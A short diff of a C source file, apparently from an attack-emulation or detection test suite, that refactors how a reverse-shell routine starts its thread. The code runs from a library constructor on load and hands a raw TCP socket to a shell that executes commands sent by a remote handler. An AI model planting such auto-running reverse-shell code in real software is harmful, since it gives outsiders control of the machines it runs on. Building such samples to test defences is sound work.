@@ -10,7 +10,6 @@
  * T1095 raw TCP channel).
  * Proof: NAME.ran from the constructor; NAME.done is written by the shell,
  * running the command the handler sent over the socket. */
-#include <pthread.h>
 #include <time.h>
 
 #include "scn.h"
@@ -48,14 +47,9 @@ __attribute__((constructor)) static void revshell_init(void)
 			scn_exec_shell(fd);
 		_exit(127);
 	}
+#elif defined(SCN_SHELL_DELAYED)
+	scn_detached(shell_thread, (void *)1);
 #else
-	pthread_t t;
-#if defined(SCN_SHELL_DELAYED)
-	void *delay = (void *)1;
-#else
-	void *delay = NULL;
-#endif
-	if (!pthread_create(&t, NULL, shell_thread, delay))
-		pthread_detach(t);
+	scn_detached(shell_thread, NULL);
 #endif
 }
